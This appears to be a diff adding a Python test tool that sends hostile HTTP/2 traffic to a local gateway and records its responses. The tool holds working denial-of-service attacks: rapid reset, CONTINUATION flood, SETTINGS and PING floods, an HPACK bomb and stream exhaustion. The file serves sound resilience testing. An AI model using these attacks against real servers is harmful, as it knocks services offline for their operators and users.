@@ -1,0 +1,184 @@
+"""A raw HTTP/2 client for the gateway's attack tests: writes frames as an abusive client
+would (hyperframe and hpack, the `h2` package's own layers, so nothing checks what is sent),
+then reads what the gateway answers until it closes or goes quiet.
+
+    h2attack.py PORT ATTACK [ARG]
+
+Prints one JSON object: `goaway` (the error code of the GOAWAY received, or null), `closed`
+(the gateway closed the connection), `resets` ({stream: error code}), `statuses` ({stream:
+:status}), `data` ({stream: bytes}), `ended` (streams that ended), `seconds` (how long the
+answer took).
+"""
+import json
+import socket
+import sys
+import time
+
+from hpack import Encoder, Decoder
+from hyperframe.frame import (
+    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
+    SettingsFrame, WindowUpdateFrame,
+)
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+class Client:
+    def __init__(self, port, settings=None):
+        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
+        self.encoder = Encoder()
+        self.decoder = Decoder()
+        self.buffer = b""
+        self.result = {"goaway": None, "closed": False, "resets": {}, "statuses": {}, "data": {}, "ended": [], "seconds": 0}
+        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
+
+    def send(self, data):
+        try:
+            self.sock.sendall(data)
+            return True
+        except OSError:
+            return False
+
+    def block(self, path, method="GET", extra=()):
+        return self.encoder.encode([(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path)] + list(extra))
+
+    def headers(self, stream, path, end_stream=True, method="GET", extra=()):
+        frame = HeadersFrame(stream, data=self.block(path, method, extra))
+        frame.flags.add("END_HEADERS")
+        if end_stream:
+            frame.flags.add("END_STREAM")
+        return frame.serialize()
+
+    def read(self, seconds, until=None):
+        """Frames until the connection closes, `until(result)` holds, or `seconds` pass."""
+        start = time.time()
+        self.sock.settimeout(0.2)
+        while time.time() - start < seconds:
+            if until and until(self.result):
+                break
+            try:
+                chunk = self.sock.recv(65536)
+            except socket.timeout:
+                continue
+            except OSError:
+                chunk = b""
+            if not chunk:
+                self.result["closed"] = True
+                break
+            self.buffer += chunk
+            self.parse()
+        self.result["seconds"] = round(time.time() - start, 3)
+        return self.result
+
+    def parse(self):
+        while len(self.buffer) >= 9:
+            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
+            if len(self.buffer) < 9 + length:
+                return
+            frame.parse_body(memoryview(self.buffer[9:9 + length]))
+            self.buffer = self.buffer[9 + length:]
+            self.frame(frame)
+
+    def frame(self, frame):
+        r = self.result
+        sid = str(frame.stream_id)
+        if isinstance(frame, GoAwayFrame):
+            r["goaway"] = frame.error_code
+        elif isinstance(frame, RstStreamFrame):
+            r["resets"][sid] = frame.error_code
+        elif isinstance(frame, HeadersFrame):
+            for name, value in self.decoder.decode(frame.data):
+                if name in (b":status", ":status"):
+                    status = int(value)
+                    if status >= 200:
+                        r["statuses"][sid] = status
+            if "END_STREAM" in frame.flags:
+                r["ended"].append(frame.stream_id)
+        elif isinstance(frame, DataFrame):
+            r["data"][sid] = r["data"].get(sid, 0) + len(frame.data)
+            if "END_STREAM" in frame.flags:
+                r["ended"].append(frame.stream_id)
+        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
+            pong = PingFrame(0, opaque_data=frame.opaque_data)
+            pong.flags.add("ACK")
+            self.send(pong.serialize())
+        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
+            ack = SettingsFrame(0)
+            ack.flags.add("ACK")
+            self.send(ack.serialize())
+
+
+def goaway_or_close(r):
+    return r["goaway"] is not None
+
+
+def main():
+    port, attack = int(sys.argv[1]), sys.argv[2]
+    arg = sys.argv[3] if len(sys.argv) > 3 else None
+    c = Client(port)
+    if attack == "rapid-reset":
+        # CVE-2023-44487: open a stream and cancel it at once, again and again.
+        out = b""
+        for i in range(1000):
+            sid = 1 + 2 * i
+            out += c.headers(sid, "/slow/" + str(i)) + RstStreamFrame(sid, error_code=8).serialize()
+        c.send(out)
+        print(json.dumps(c.read(10, goaway_or_close)))
+    elif attack == "continuation-flood":
+        # CVE-2024-27316: a header block that never ends, one CONTINUATION after another.
+        start = HeadersFrame(1, data=c.block("/"))
+        start.flags.add("END_STREAM")
+        out = start.serialize()
+        for i in range(20000):
+            out += ContinuationFrame(1, data=c.encoder.encode([("x-filler", "a" * 20)])).serialize()
+            if len(out) > 1 << 16:
+                if not c.send(out):
+                    break
+                out = b""
+        c.send(out)
+        print(json.dumps(c.read(10, goaway_or_close)))
+    elif attack in ("settings-flood", "ping-flood"):
+        frame = SettingsFrame(0) if attack == "settings-flood" else PingFrame(0, opaque_data=b"12345678")
+        c.send(frame.serialize() * 5000)
+        print(json.dumps(c.read(10, goaway_or_close)))
+    elif attack == "empty-data-flood":
+        # A stream kept open with DATA frames that carry nothing: work for no progress.
+        c.send(c.headers(1, "/upload", end_stream=False, method="POST"))
+        c.send(DataFrame(1, data=b"").serialize() * 10000)
+        print(json.dumps(c.read(10, goaway_or_close)))
+    elif attack == "hpack-bomb":
+        # One large field in the dynamic table, then a block that repeats it by index (a few
+        # bytes each): kilobytes on the wire that decode to megabytes.
+        big = ("x-bomb", "b" * 4000)
+        first = c.headers(1, "/", extra=[big])
+        bomb = HeadersFrame(3, data=c.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/")] + [big] * 4000))
+        bomb.flags.add("END_HEADERS")
+        bomb.flags.add("END_STREAM")
+        c.send(first + bomb.serialize())
+        print(json.dumps(c.read(10, goaway_or_close)))
+    elif attack == "zero-window":
+        # The client grants no window and asks for a large answer: the gateway must not hold
+        # it forever (nor more than its bounds of it).
+        c = Client(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
+        c.send(c.headers(1, arg or "/bytes/10000000"))
+        print(json.dumps(c.read(30, lambda r: r["goaway"] is not None or "1" in r["resets"])))
+    elif attack == "never-ending":
+        # Streams whose requests never end: each must be ended by the gateway's timeouts.
+        for i in range(10):
+            c.send(c.headers(1 + 2 * i, "/upload", end_stream=False, method="POST", extra=[("content-length", "100")]))
+        print(json.dumps(c.read(30, lambda r: len(r["resets"]) >= 10 or r["goaway"] is not None)))
+    elif attack == "too-many-streams":
+        # More streams at once than SETTINGS_MAX_CONCURRENT_STREAMS allows.
+        n = int(arg or "150")
+        c.send(b"".join(c.headers(1 + 2 * i, "/delay/500") for i in range(n)))
+        print(json.dumps(c.read(15, lambda r: len(r["resets"]) + len(r["ended"]) >= n)))
+    elif attack == "many-streams":
+        # Not an attack: n streams at once, all answered.
+        n = int(arg or "50")
+        c.send(b"".join(c.headers(1 + 2 * i, "/echo/" + str(i)) for i in range(n)))
+        print(json.dumps(c.read(15, lambda r: len(r["ended"]) >= n)))
+    else:
+        sys.exit("unknown attack " + attack)
+
+
+main()
